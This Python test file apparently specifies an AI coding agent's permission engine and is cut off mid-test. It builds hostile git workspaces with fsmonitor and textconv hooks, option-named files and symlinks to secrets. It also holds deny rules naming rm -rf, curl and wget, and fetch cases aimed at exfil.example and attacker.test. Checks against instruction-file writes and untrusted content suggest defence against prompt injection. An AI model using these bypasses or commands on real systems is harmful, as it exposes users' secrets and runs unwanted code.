"""Specification of the permission engine: an adversarial corpus of decisions.

The bash rows live as data in ``permission_corpus.toml`` (its header says
where each family of bypass was reported); each row is a real decision: the
line is analyzed, its words resolved in a real workspace (secrets, symlinks
and hard links out, git internals, a copy of git under another name), and
the pure engine decides with the rules below on top of the built-in ones,
exactly as the gate does. Nothing a deny rule names may come out allowed.
The tool rows below cover every other tool, network egress included.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tarfile
import tomllib
import zipfile
from collections.abc import Mapping
from pathlib import Path
from types import MappingProxyType
from typing import Any, NamedTuple

import pytest

from kfd.api import PathAccess, PolicyRequest
from kfd.config import PermissionsConfig
from kfd.policy.defaults import builtin_rules
from kfd.policy.engine import Outcome, decide_facts
from kfd.policy.facts import CallFacts, PathFact
from kfd.policy.gate import restricted_matcher
from kfd.policy.line_facts import line_facts
from kfd.policy.paths import hard_links, instruction_links, resolve
from kfd.policy.rulebook import configured
from kfd.policy.rules import SourcedRule, parse_rule
from kfd.protocol import Mode

CORPUS = {
    "group": [
        group
        for name in ("permission_corpus.toml", "permission_attacks.toml")
        for group in tomllib.loads((Path(__file__).parent / name).read_text())["group"]
    ]
}

RULES = PermissionsConfig(
    allow=[
        "bash(npm run test *)",
        "bash(npm test)",
        "bash(git status)",
        "bash(make)",
        "bash(pytest *)",
        "bash(git add *)",
        "bash(git commit *)",
        "edit(src/**)",
    ],
    ask=["bash(git push *)"],
    deny=[
        "bash(rm -rf *)",
        "bash(git push --force *)",
        "bash(curl *)",
        "bash(wget *)",
        "bash(chmod 777 *)",
        "bash(chown *)",
        "bash(npm publish *)",
        "bash(docker rm *)",
        "bash(docker run --privileged *)",
        "bash(kubectl delete *)",
        "bash(find * -delete *)",
        "bash(sed -i *)",
        "bash(dd of=/dev/sda *)",
        "bash(git reset --hard *)",
        "bash(git clean -f *)",
        "bash(terraform destroy *)",
        "bash(cp -r * /etc/x)",
        "bash(cp * /etc/*)",
        "bash(git branch -D *)",
        "bash(git push origin --delete *)",
        "bash(npm install -g *)",
        "bash(yarn publish *)",
        "read(secrets/**)",
        "web_fetch(domain:*.evil.example)",
        "*(domain:exfil.example)",
    ],
)


class World(NamedTuple):
    workspace: Path
    outside: Path
    home: Path


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


def _commit(ws: Path) -> None:
    _git("add", "-A", cwd=ws)
    _git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "init", cwd=ws)


@pytest.fixture(scope="module")
def worlds(tmp_path_factory: pytest.TempPathFactory) -> dict[str, World]:
    """A workspace with secrets and ways out of it ("repo"), and an everyday one ("clean")."""
    root = tmp_path_factory.mktemp("corpus").resolve()
    outside = root / "outside"
    outside.mkdir()
    (outside / "file.txt").write_text("outside\n")
    (outside / "hardfile").write_text("shared\n")
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\n")
    # As GitHub recommends: git blame reads the file in every repository it runs in.
    (home / ".gitconfig").write_text("[blame]\n\tignoreRevsFile = .git-blame-ignore-revs\n")

    ws = root / "ws"
    ws.mkdir()
    _git("init", "-q", str(ws), cwd=root)
    (ws / "README.md").write_text("# demo\n")
    (ws / "src").mkdir()
    (ws / "src" / "a.py").write_text("print(1)\n")
    (ws / "config").mkdir()
    (ws / "config" / ".env").write_text("TOKEN=z\n")
    (ws / "config" / "app.toml").write_text("x = 1\n")
    (ws / "run.sh").write_text("#!/bin/sh\n")
    _commit(ws)  # config/.env is tracked: `git diff` may print it
    (ws / ".env").write_text("TOKEN=x\n")
    (ws / ".env.local").write_text("TOKEN=y\n")
    (ws / "secrets").mkdir()
    (ws / "secrets" / "server.pem").write_text("pem\n")
    (ws / "a\nb").mkdir()  # pathspec's `**/.env` missed a name past a newline
    (ws / "docs").mkdir()
    (ws / "docs" / "notes.md").write_text("# notes\n")
    (ws / "AGENTS.md").symlink_to("docs/notes.md")  # every session reads the notes
    (ws / "a\nb" / ".env").write_text("TOKEN=n\n")
    (ws / ".kfd").mkdir()
    (ws / "build").mkdir()
    (ws / "list.txt").write_text("build\n")
    (ws / "link_out").symlink_to(outside)
    (ws / "link_env").symlink_to(ws / ".env")
    (ws / "src" / "escape.py").symlink_to(outside / "file.txt")
    (ws / "sub").mkdir()
    (ws / "sub" / "link").symlink_to(Path("../../outside/file.txt"))
    # Reached only by two changes of directory in a row (`cd p; cd q`).
    (ws / "p" / "q").mkdir(parents=True)
    (ws / "p" / "q" / "e").symlink_to("../../.env")
    (ws / "p" / "q" / "gg").symlink_to("../../.git")
    os.link(outside / "hardfile", ws / "hard")
    (ws / "shared").mkdir()
    os.link(ws / ".env", ws / "shared" / "notes.txt")  # .env under a name no rule names
    (ws / "vendored" / ".git").mkdir(parents=True)  # a tarball's repository
    (ws / "vendored" / ".git" / "e").symlink_to("../../.env")
    (ws / "held" / ".git").mkdir(parents=True)
    os.link(ws / ".env", ws / "held" / ".git" / "h")
    git = shutil.which("git")
    assert git is not None
    (ws / "g").symlink_to(os.path.realpath(git))
    (ws / "tool.sh").write_text('#!/bin/sh\nexec "$@"\n')
    (ws / "tool.sh").chmod(0o755)

    clean = root / "clean"
    clean.mkdir()
    _git("init", "-q", str(clean), cwd=root)
    (clean / "README.md").write_text("# demo\n")
    (clean / "src").mkdir()
    (clean / "src" / "app.py").write_text("def main():\n    pass\n")
    (clean / "tests").mkdir()
    (clean / "tests" / "test_app.py").write_text("def test():\n    pass\n")
    _commit(clean)
    (clean / "src" / "app.py").write_text("def main():\n    return 1\n")
    hostile = root / "hostile"
    hostile.mkdir()
    _git("init", "-q", str(hostile), cwd=root)
    (hostile / "README.md").write_text("# hostile\n")
    (hostile / ".env").write_text("TOKEN=h\n")
    (hostile / "config").mkdir()
    (hostile / "config" / ".env").write_text("TOKEN=c\n")
    (hostile / "src").mkdir()
    (hostile / "src" / "a.py").write_text("print(1)\n")
    (hostile / "empty").mkdir()
    (hostile / "empty" / "keep").write_text("")
    _commit(hostile)
    # What a clone may hold: files named as options (a glob hands them to the program
    # as options), and links in a tree that lead back up or out of it.
    for name in ("--compress-program=sh", "-S1", "-f.env", "--output=pwned", "-eTOKEN", "-r"):
        (hostile / name).write_text("touch canary\n")
    (hostile / "src" / "up").symlink_to("..")
    (hostile / "lib").mkdir()
    (hostile / "lib" / "a.py").write_text("x = 1\n")
    (hostile / "lib" / "alias.py").symlink_to("a.py")  # a link to a file in the tree
    # A program reached through links whose last name says nothing (npm-cli.js).
    (outside / "lib" / "npm" / "bin").mkdir(parents=True)
    (outside / "lib" / "npm" / "bin" / "npm-cli.js").write_text("#!/bin/sh\n")
    (outside / "bin").mkdir()
    (outside / "bin" / "npm").symlink_to("../lib/npm/bin/npm-cli.js")
    (hostile / "npm2").symlink_to(outside / "bin" / "npm")
    (hostile / "src" / "out").symlink_to(outside)
    (hostile / ".en\\v").write_text("")  # a pathspec matching .env: `\\v` is `v` to git
    (hostile / ".git-blame-ignore-revs").symlink_to(".env")  # blame prints it in an error
    return {
        "repo": World(ws, outside, home),
        "clean": World(clean, outside, home),
        "hostile": World(hostile, outside, home),
        "nested": World(_nested(root), outside, home),
        "home": World(_home_workspace(root), outside, root / "homews"),
        "gitconfig": World(_configured_repository(root), outside, home),
        "submodule-config": World(_configured_submodule(root), outside, home),
        "push-config": World(_configured_push(root), outside, home),
        "unpack": World(_unpacking(root), outside, home),
    }


_PATCH = "--- {0}\n+++ {0}\n@@ -0,0 +1 @@\n+x\n"
_GIT_PATCH = (
    "diff --git a/{0} b/{0}\nnew file mode 100644\n--- /dev/null\n+++ b/{0}\n@@ -0,0 +1 @@\n+x\n"
)


def _unpacking(root: Path) -> Path:
    """A workspace holding patches and archives whose names write what always asks
    (instruction files, git's hooks), outside it, or nothing of note."""
    ws = root / "unpack"
    ws.mkdir()
    _git("init", "-q", str(ws), cwd=root)
    (ws / "a.py").write_text("x = 1\n")
    _commit(ws)
    (ws / "sub").mkdir()
    for name, target in (("ag", "AGENTS.md"), ("hk", ".git/hooks/post-checkout"), ("ok", "b.py")):
        (ws / f"{name}.patch").write_text(_PATCH.format(target))
        (ws / f"{name}.git.patch").write_text(_GIT_PATCH.format(target))
    (ws / "up.patch").write_text(_PATCH.format("../outside/file.txt"))
    (ws / "secret.patch").write_text(_PATCH.format("secrets/server.pem"))
    mail = "From: a@b\nContent-Transfer-Encoding: base64\n\nLS0tIC9kZXYvbnVsbAo=\n"
    (ws / "encoded.mbox").write_text(mail)
    for name, member in (("ag", "AGENTS.md"), ("ok", "b.py"), ("hk", ".git/hooks/pre-commit")):
        for suffix, mode in ((".tar", "w"), (".tgz", "w:gz")):
            with tarfile.open(ws / f"{name}{suffix}", mode) as archive:
                archive.addfile(tarfile.TarInfo(member))
        with zipfile.ZipFile(ws / f"{name}.zip", "w") as archive:
            archive.writestr(member, "")
    with tarfile.open(ws / "up.tar", "w") as archive:
        archive.addfile(tarfile.TarInfo("../../outside/file.txt"))
    with tarfile.open(ws / "deep.tar", "w") as archive:  # pkg/AGENTS.md, stripped: AGENTS.md
        archive.addfile(tarfile.TarInfo("pkg/AGENTS.md"))
    with tarfile.open(ws / "through.tar", "w") as archive:  # a link, then a file through it
        link = tarfile.TarInfo("l")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(link)
        archive.addfile(tarfile.TarInfo("l/x"))
    (ws / "junk.tar").write_bytes(b"\x28\xb5\x2f\xfd" + b"zstd, say" * 20)
    os.mkfifo(ws / "fifo.patch")
    return ws


def _configured_repository(root: Path) -> Path:
    """A workspace that came with its ``.git`` (a tarball, a copied checkout), whose
    configuration runs programs: git obeys it for every command."""
    ws = root / "gitconfig"
    ws.mkdir()
    _git("init", "-q", str(ws), cwd=root)
    (ws / "a.py").write_text("x = 1\n")
    _commit(ws)
    with (ws / ".git" / "config").open("a") as config:
        config.write('[core]\n\tfsmonitor = "touch pwned; false"\n[diff "py"]\n\ttextconv = sh\n')
    # A `.git` git does not take (no objects/, refs/): git goes on up to the top's.
    (ws / "sub" / ".git").mkdir(parents=True)
    (ws / "sub" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return ws


def _configured_push(root: Path) -> Path:
    """A repository whose configuration makes a plain ``git push`` a force push: its
    ``origin`` pushes ``+`` refspecs, its ``backup`` is a mirror; the legacy file
    ``.git/remotes/evil`` gives ``evil`` a URL and a ``+`` refspec, ``.git/remotes/odd``
    is a FIFO kfd does not read."""
    ws = root / "pushcfg"
    ws.mkdir()
    _git("init", "-q", str(ws), cwd=root)
    (ws / "a.py").write_text("x = 1\n")
    _commit(ws)
    with (ws / ".git" / "config").open("a") as config:
        config.write(
            '[remote "origin"]\n\turl = ../elsewhere.git\n'
            "\tpush = +refs/heads/master:refs/heads/master\n"
            '[remote "backup"]\n\turl = ../backup.git\n\tmirror = true\n'
            '[remote "named"]\n\turl = ../named.git\n'
        )
    remotes = ws / ".git" / "remotes"
    remotes.mkdir()
    legacy = "URL: ../elsewhere.git\nPush: +refs/heads/master:refs/heads/master\n"
    for name in ("evil", "named"):  # `named` has a URL in the configuration: not read
        (remotes / name).write_text(legacy)
    os.mkfifo(remotes / "odd")
    (ws / ".git" / "branches").mkdir(exist_ok=True)
    (ws / ".git" / "branches" / "plain").write_text("../elsewhere.git#master\n")
    return ws


def _configured_submodule(root: Path) -> Path:
    """A plain repository whose submodule's own configuration runs a program: git
    enters the submodule on `git status` and `git diff`."""
    source = root / "subcfg-src"
    source.mkdir()
    _git("init", "-q", str(source), cwd=root)
    (source / "lib.py").write_text("x = 1\n")
    _commit(source)
    ws = root / "subcfg"
    ws.mkdir()
    _git("init", "-q", str(ws), cwd=root)
    (ws / "app.py").write_text("x = 1\n")
    _git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(source), "cfg", cwd=ws)
    _commit(ws)
    with (ws / ".git" / "modules" / "cfg" / "config").open("a") as config:
        config.write('[core]\n\tfsmonitor = "touch pwned; false"\n')
    return ws


def _home_workspace(root: Path) -> Path:
    """A home that is the workspace (kfd started in ~), with its configuration, a
    project, and a dot-directory the user may work in (``~/.dotfiles``)."""
    home = root / "homews"
    for name in (".config/git", ".local/bin", ".ssh", ".dotfiles", "project"):
        (home / name).mkdir(parents=True)
    (home / ".bashrc").write_text("[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n")
    (home / ".gitconfig").write_text("[user]\n\tname = me\n")
    (home / ".dotfiles" / "vimrc").write_text("set nu\n")
    (home / "project" / "a.py").write_text("x = 1\n")
    (home / "project" / ".gitconfig").write_text("[core]\n\tfsmonitor = x\n")
    return home


def _nested(root: Path) -> Path:
    """A repository whose own tracked files are harmless, with a submodule and a
    repository of its own inside (ignored) that track a ``.env`` and a key."""
    for name in ("subsrc", "nestws/nested"):
        repo = root / name
        repo.mkdir(parents=True)
        _git("init", "-q", str(repo), cwd=root)
        (repo / ".env").write_text("API_KEY=sm-secret\n")
        (repo / "server.key").write_text("-----BEGIN PRIVATE KEY-----\n")
        (repo / "lib.py").write_text("x = 1\n")
        _commit(repo)
    ws = root / "nestws"
    _git("init", "-q", str(ws), cwd=root)
    (ws / "app.py").write_text("v1\n")
    (ws / ".gitignore").write_text("nested/\n")
    _git("-c", "protocol.file.allow=always", "submodule", "add", "-q", "../subsrc", "cfg", cwd=ws)
    _commit(ws)
    (ws / "app.py").write_text("v2\n")
    return ws


def rules(extra_session: tuple[str, ...] = ()) -> list[SourcedRule]:
    session = [SourcedRule(parse_rule(text), "allow", "session") for text in extra_session]
    return [*session, *configured(RULES, "user"), *builtin_rules()]


def decide_bash(
    world: World,
    command: str,
    mode: Mode = "default",
    *,
    session: tuple[str, ...] = (),
    network: bool = False,
    network_allowed: bool = False,
    untrusted: str = "",
) -> Outcome:
    """Decide a bash line as the gate does (`kfd.policy.gate.gather`), in ``world``."""
    arguments: dict[str, Any] = {"command": command}
    if network:
        arguments["network"] = True
    request = PolicyRequest(
        session_id="s",
        tool="bash",
        arguments=arguments,
        read_only=False,
        edits_files=False,
        workspace=str(world.workspace),
        mode=mode,
        session_rule=f"bash({command})",
        session_rules=list(session),
        network=network,
        untrusted=bool(untrusted),
    )
    applicable = rules(session)
    matcher = restricted_matcher(applicable, str(world.workspace), str(world.home))
    facts = CallFacts(
        request=request,
        rules=applicable,
        line=line_facts(command, str(world.workspace), restricted=matcher, home=str(world.home)),
        home=str(world.home),
        untrusted=untrusted,
        network_allowed=network_allowed,
    )
    return decide_facts(facts)


class Row(NamedTuple):
    group: str
    world: str
    mode: Mode
    expected: str
    line: str
    note: str
    network: bool


def _rows() -> list[Row]:
    rows = []
    for group in CORPUS["group"]:
        for case in group["cases"]:
            expected, line, *rest = case
            expected, _, mode = expected.partition(":")
            rows.append(
                Row(
                    group["name"],
                    group["world"],
                    mode or group.get("mode", "default"),
                    expected,
                    line,
                    rest[0] if rest else "",
                    bool(group.get("network", False)),
                )
            )
    return rows


ROWS = _rows()


def _id(row: Row) -> str:
    return f"{row.mode}:{row.expected}:{row.line[:60]!r}"


def _placed(line: str, world: World) -> str:
    """``line`` with "{home}" and "{outside}" standing for the world's directories."""
    return line.replace("{home}", str(world.home)).replace("{outside}", str(world.outside))


@pytest.mark.parametrize("row", ROWS, ids=[_id(r) for r in ROWS])
def test_bash_line(worlds: dict[str, World], row: Row) -> None:
    world = worlds[row.world]
    outcome = decide_bash(world, _placed(row.line, world), row.mode, network=row.network)
    got = outcome.decision
    if row.expected == "ask-or-deny":
        assert got != "allow", f"{row.group}: allowed: {outcome.reason}"
    else:
        assert got == row.expected, f"{row.group} ({row.note}): {outcome.reason}"


def test_the_corpus_is_large_and_covers_every_family() -> None:
    assert len(ROWS) + len(CALLS) >= 300
    groups = {g["name"] for g in CORPUS["group"]}
    assert len(groups) >= 15
    assert sum(1 for r in ROWS if r.expected == "allow") >= 60  # the tool stays usable


def test_nothing_a_deny_rule_names_is_allowed_in_any_mode(worlds: dict[str, World]) -> None:
    """Every line of the corpus a deny rule names stays at least asked in every mode."""
    denied = [r for r in ROWS if r.expected == "deny"]
    checked = 0
    for row in denied:
        line = _placed(row.line, worlds[row.world])
        if not decide_bash(worlds[row.world], line, row.mode).rule:
            continue  # denied by the mode or the workspace guard, not by a rule
        checked += 1
        for mode in ("default", "accept-edits", "auto", "plan"):
            outcome = decide_bash(worlds[row.world], line, mode)
            assert outcome.decision != "allow", (row.line, mode, outcome.reason)
    assert checked >= 100


@pytest.mark.parametrize(
    ("approved", "later"),
    [
        ("chmod +x *", "chmod +x src --recursive"),
        ("pip install *", "pip install evil-pkg"),
        ("*", "touch x"),
        ("make *", "make deploy"),
    ],
)
def test_an_approved_command_is_kept_exactly_never_as_a_pattern(
    worlds: dict[str, World], approved: str, later: str
) -> None:
    """ "Allow for this session" keeps ``bash(<the command>)``: a command ending in a
    glob (`chmod +x *`) must not become a rule that allows any arguments."""
    world = worlds["clean"]
    again = decide_bash(world, approved, session=(f"bash({approved})",))
    assert again.decision == "allow" or approved == "*"  # `*` is no command to allow
    assert decide_bash(world, later, session=(f"bash({approved})",)).decision == "ask"


# -- the same engine for every tool --------------------------------------------


class Call(NamedTuple):
    tool: str
    path: str | None
    expected: str
    mode: Mode = "default"
    write: bool = False
    why: str = ""
    options: Mapping[str, Any] = MappingProxyType({})


def decide_tool(
    world: World,
    tool: str,
    path: str | None = None,
    mode: Mode = "default",
    *,
    write: bool = False,
    read_only: bool = False,
    edits: bool = False,
    network: bool = False,
    arguments: dict[str, Any] | None = None,
    extra: tuple[str, ...] = (),
    user: tuple[str, ...] = (),
    untrusted: str = "",
    domains: tuple[str, ...] | None = None,
    session_rule: str | None = None,
) -> Outcome:
    """Decide a call as the gate does; ``extra``: allowed for this session (an
    approval kept them), ``user``: allow rules of the user's config."""
    workspace = str(world.workspace)
    accesses = [PathAccess(path, write=write)] if path is not None else []
    resolved = resolve(world.workspace, accesses)
    request = PolicyRequest(
        session_id="s",
        tool=tool,
        arguments=arguments or {},
        read_only=read_only,
        edits_files=edits,
        workspace=workspace,
        mode=mode,
        paths=resolved,
        session_rule=session_rule or (f"{tool}({path})" if path is not None else tool),
        network=network,
        untrusted=bool(untrusted),
    )
    extra_rules = [SourcedRule(parse_rule(text), "allow", "session") for text in extra]
    extra_rules += [SourcedRule(parse_rule(text), "allow", "user") for text in user]
    facts = CallFacts(
        request=request,
        rules=[*extra_rules, *rules()],
        paths=[
            PathFact.of(r, workspace, hard_links(r.real), instruction_links(workspace))
            for r in resolved
        ],
        home=str(world.home),
        untrusted=untrusted,
        domains=list(domains) if domains is not None else None,
    )
    return decide_facts(facts)


def _fetch(url: str, host: str, **more: Any) -> dict[str, Any]:
    options: dict[str, Any] = {
        "arguments": {"url": url},
        "read_only": True,
        "network": True,
        "domains": (host,),
        "session_rule": f"web_fetch(domain:{host})",
    }
    options.update(more)
    return options


CALLS = [
    Call("read", ".env", "deny", "auto", why="read(**/.env)"),
    Call("read", "link_env", "deny", "auto", why="read(**/.env)"),
    Call("grep", "config/.env", "deny", why="read(**/.env)"),
    Call("read", "secrets/server.pem", "deny", why="read(secrets/**)"),
    Call("read", "src/a.py", "allow", options={"read_only": True}, why="read-only"),
    Call("read", "src/a.py", "allow", "plan", options={"read_only": True}),
    Call("read", "../outside/file.txt", "ask", "auto", options={"read_only": True}),
    Call("read", "link_out/file.txt", "ask", "auto", why="outside the workspace"),
    Call("read", "{home}/.ssh/id_rsa", "deny", "auto", why="id_rsa is denied by read("),
    Call("read", "{home}/.ssh/config", "deny", "auto", why="read(~/.ssh/**)"),
    Call("read", "{home}/.aws/credentials", "deny", "auto", why="read(~/.aws/**)"),
    Call("write", "../x.txt", "deny", "auto", write=True, why="writes outside the workspace"),
    Call("write", "/etc/motd", "deny", "auto", write=True, why="edit(/etc/motd)"),
    Call(
        "write",
        "{outside}/new.txt",
        "allow",
        "auto",
        write=True,
        why="edit({outside}/**)",
        options={"user": ("edit({outside}/**)",)},
    ),
    Call("edit", ".git/config", "ask", "auto", write=True, why="git's internals"),
    Call("edit", ".kfd/config.toml", "ask", "auto", write=True, why="kfd's project config"),
    Call("write", ".bashrc", "ask", "auto", write=True, why="shell start-up file"),
    Call("write", "AGENTS.md", "ask", "auto", write=True, why="an instruction file"),
    Call("edit", "src/CLAUDE.md", "ask", "auto", write=True, why="an instruction file"),
    Call("edit", "docs/notes.md", "ask", "auto", write=True, why="AGENTS.md is a link to it"),
    Call("read", "docs/notes.md", "allow", "auto"),
    Call("write", "hard", "ask", "auto", write=True, why="hard links"),
    Call("edit", "src/a.py", "allow", "auto", write=True, why="edit(src/**)"),
    Call("edit", "src/a.py", "allow", write=True, why="edit(src/**) (user config)"),
    Call("edit", "README.md", "ask", write=True, why="default mode asks"),
    Call("edit", "README.md", "allow", "accept-edits", write=True, options={"edits": True}),
    Call("edit", "src/a.py", "deny", "plan", write=True, why="plan mode"),
    Call("edit", "src/escape.py", "deny", write=True, why="writes outside the workspace"),
    # Network tools are egress: each new domain asks; plan only goes where allowed.
    Call(
        "web_fetch",
        None,
        "deny",
        why="*.evil.example",
        options=_fetch("https://a.evil.example/x", "a.evil.example"),
    ),
    Call(
        "web_fetch",
        None,
        "deny",
        "auto",
        options=_fetch("https://a.evil.example/", "a.evil.example"),
    ),
    Call(
        "web_fetch",
        None,
        "deny",
        "auto",
        why="exfil.example",
        options=_fetch("https://exfil.example/c?d=secret", "exfil.example"),
    ),
    Call(
        "web_fetch",
        None,
        "ask",
        why="no rule allows yet",
        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
    ),
    Call(
        "web_fetch",
        None,
        "ask",
        "accept-edits",
        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
    ),
    Call(
        "web_fetch",
        None,
        "deny",
        "plan",
        why="no rule allows",
        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
    ),
    Call(
        "web_fetch",
        None,
        "allow",
        "auto",
        why="auto mode",
        options=_fetch("https://docs.python.org/3/", "docs.python.org"),
    ),
    Call(
        "web_fetch",
        None,
        "allow",
        why="web_fetch(domain:docs.python.org)",
        options=_fetch(
            "https://docs.python.org/3/",
            "docs.python.org",
            extra=("web_fetch(domain:docs.python.org)",),
        ),
    ),
    Call(
        "web_fetch",
        None,
        "allow",
        "plan",
        options=_fetch(
            "https://docs.python.org/3/",
            "docs.python.org",
            extra=("web_fetch(domain:docs.python.org)",),
        ),
    ),
    Call(
        "web_fetch",
        None,
        "allow",
        options=_fetch(
            "https://x.python.org/", "x.python.org", user=("web_fetch(domain:*.python.org)",)
        ),
    ),
    Call(
        "web_fetch",
        None,
        "ask",
        why="no rule allows",
        options=_fetch(
            "https://python.org.evil.test/",
            "python.org.evil.test",
            user=("web_fetch(domain:*.python.org)",),
        ),
    ),
    Call(
        "web_fetch",
        None,
        "ask",
        "auto",
        why="untrusted content",
        options=_fetch("https://attacker.test/c?d=x", "attacker.test", untrusted="web_fetch"),
    ),
    Call(
        "web_fetch",
        None,
        "allow",
        "auto",
        options=_fetch(
            "https://docs.python.org/3/",
            "docs.python.org",
            untrusted="web_fetch",
            extra=("web_fetch(domain:docs.python.org)",),
        ),
    ),
    Call(
        "web_fetch",
        None,
        "ask",
        "auto",
        why="untrusted content",
        options=_fetch("https://docs.python.org/3/", "docs.python.org", untrusted="mcp__x__read"),
    ),
    Call(
        "browser_fetch",
        None,
        "ask",
        options={
            **_fetch("https://example.org/", "example.org"),
            "session_rule": "browser_fetch(domain:example.org)",
        },
    ),
    Call(
        "browser_fetch",
        None,
        "deny",
        options={
            **_fetch("https://exfil.example/", "exfil.example"),
            "session_rule": "browser_fetch(domain:exfil.example)",
        },
    ),
    Call(
        "web_search",
        None,
        "ask",
        options={
            "read_only": True,
            "network": True,
            "domains": ("html.duckduckgo.com",),
            "arguments": {"query": "x"},
        },
    ),
    Call(
        "web_search",
        None,
        "allow",
        options={
            "read_only": True,
            "network": True,
            "domains": ("html.duckduckgo.com",),
            "arguments": {"query": "x"},
            "extra": ("web_search",),
        },
    ),
    Call(
        "github_read",
        None,
        "ask",
        options={
            "read_only": True,
            "network": True,
            "domains": ("api.github.com",),
            "session_rule": "github_read(repo:a/b)",
        },
    ),
    Call(
        "github_read",
        None,
        "allow",
        options={
            "read_only": True,
            "network": True,
            "domains": ("api.github.com",),
            "session_rule": "github_read(repo:a/b)",
            "extra": ("github_read(repo:a/b)",),
        },
    ),
    Call(
        "github_read",
        None,
        "deny",
        "plan",
        options={
            "read_only": True,
            "network": True,
            "domains": ("api.github.com",),
            "session_rule": "github_read(repo:a/b)",
        },
    ),
    Call(
        "web_fetch",
        None,
        "ask",
        why="host it does not name",
        options={"read_only": True, "network": True, "domains": None, "arguments": {"url": "x"}},
    ),
    Call(
        "mcp__tracker__create",
        None,
        "ask",
        options={"network": True, "domains": ("mcp.example.org",)},
    ),
    Call(
        "mcp__tracker__create",
        None,
        "deny",
        "plan",
        options={"network": True, "domains": ("mcp.example.org",)},
    ),
    Call(
        "mcp__tracker__create",
        None,
        "allow",
        "auto",
        options={"network": True, "domains": ("mcp.example.org",)},
    ),
    Call(
        "mcp__tracker__create",
        None,
        "ask",
        "auto",
        options={"network": True, "domains": ("mcp.example.org",), "untrusted": "web_fetch"},
    ),
    Call(
        "mcp__tracker__create",
        None,
        "deny",
        "auto",
        options={"network": True, "domains": ("exfil.example",)},
    ),
    Call("mcp__local__time", None, "allow", "auto", options={"network": True, "domains": ()}),
    Call(
        "mcp__github__create_issue",
        None,
        "allow",
        why="mcp__github__*",
        options={
            "extra": ("mcp__github__*",),
            "network": True,
            "domains": ("api.githubcopilot.com",),
        },
    ),
    Call("mcp__other__delete", None, "ask", options={"extra": ("mcp__github__*",)}),
]


@pytest.mark.parametrize(
    "case", CALLS, ids=[f"{c.mode}:{c.tool}:{c.path}:{c.expected}" for c in CALLS]
)
def test_tool_call(worlds: dict[str, World], case: Call) -> None:
    world = worlds["repo"]
    names = {"home": str(world.home), "outside": str(world.outside)}
    options = dict(case.options)
    for key in ("extra", "user"):
        options[key] = tuple(text.format(**names) for text in options.get(key, ()))
    path = case.path.format(**names) if case.path is not None else None
    outcome = decide_tool(world, case.tool, path, case.mode, write=case.write, **options)
    assert outcome.decision == case.expected, outcome.reason
    assert case.why.format(**names) in outcome.reason


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (".gitconfig", "ask"),
        (".bash_aliases", "ask"),
        (".config/git/config", "ask"),
        (".local/bin/git", "ask"),
        ("bin/git", "ask"),
        ("bin", "ask"),
        ("binaries/x", "allow"),
        (".ssh/authorized_keys", "ask"),
        ("project/a.py", "allow"),
        ("notes.txt", "allow"),
    ],
)
def test_with_home_as_the_workspace_its_configuration_always_asks(
    worlds: dict[str, World], path: str, expected: str
) -> None:
    """The host reads or runs what is in home's dot-entries: a write there asks even in
    auto mode, when the workspace is the home (round 7 of the red team)."""
    world = worlds["home"]
    for mode in ("accept-edits", "auto"):
        outcome = decide_tool(world, "write", path, mode, write=True, edits=True)
        assert outcome.decision == expected, (mode, outcome.reason)
    if expected == "ask":
        assert "your home's configuration" in outcome.reason


def test_a_workspace_inside_a_home_dot_directory_is_the_users_to_edit(
    worlds: dict[str, World],
) -> None:
    world = worlds["home"]
    dotfiles = World(world.workspace / ".dotfiles", world.outside, world.home)
    assert (
        decide_tool(dotfiles, "write", "vimrc", "accept-edits", write=True, edits=True).decision
        == "allow"
    )
    inside = decide_tool(world, "write", ".dotfiles/vimrc", "accept-edits", write=True, edits=True)
    assert inside.decision == "ask"


# -- what the rest of a turn and the session change ------------------------------------


def test_after_untrusted_content_auto_mode_asks_before_changes_not_before_reads(
    worlds: dict[str, World],
) -> None:
    world = worlds["repo"]
    changes = decide_bash(world, "npm install", "auto", untrusted="web_fetch")
    assert changes.decision == "ask"
    assert "untrusted content from `web_fetch` was read this turn" in changes.reason
    assert decide_bash(world, "ls -la", "auto", untrusted="web_fetch").decision == "allow"
    # An explicit rule of the user still allows what it names.
    assert decide_bash(world, "npm run test", "auto", untrusted="web_fetch").decision == "allow"
    edit = decide_tool(world, "write", "notes.md", "auto", write=True, untrusted="web_fetch")
    assert edit.decision == "ask" and "changes things" in edit.reason


def test_a_command_asking_for_the_network_is_asked_in_every_mode_unless_configured(
    worlds: dict[str, World],
) -> None:
    world = worlds["repo"]
    asked = decide_bash(world, "npm install", "auto", network=True)
    assert asked.decision == "ask" and "network access" in asked.reason
    allowed = decide_bash(world, "npm install", "auto", network=True, network_allowed=True)
    assert allowed.decision == "allow"


def test_the_exact_line_allowed_for_the_session_runs_but_never_past_a_deny(
    worlds: dict[str, World],
) -> None:
    world = worlds["repo"]
    line = "echo $(date) > out.txt"
    assert decide_bash(world, line).decision == "ask"
    allowed = decide_bash(world, line, session=(f"bash({line})",))
    assert allowed.decision == "allow" and "allowed for this session" in allowed.reason
    denied = "ls && rm -rf build"
    assert decide_bash(world, denied, "auto", session=(f"bash({denied})",)).decision == "deny"
    protected = "echo x > .git/config"
    outcome = decide_bash(world, protected, "auto", session=(f"bash({protected})",))
    assert outcome.decision == "ask" and "git's internals" in outcome.reason


def test_every_verdict_names_its_rule_and_source(worlds: dict[str, World]) -> None:
    world = worlds["repo"]
    denied = decide_bash(world, "git push --force")
    assert (denied.rule, denied.source) == ("bash(git push --force *)", "user config")
    builtin = decide_bash(world, "cat .env")
    assert (builtin.rule, builtin.source) == ("read(**/.env)", "built-in default")
    mode = decide_bash(world, "npm install", "auto")
    assert (mode.rule, mode.source) == ("", "mode")


def test_a_reason_says_what_was_found_and_why(worlds: dict[str, World]) -> None:
    world = worlds["repo"]
    tree = decide_bash(world, "grep -r TOKEN config", "auto")
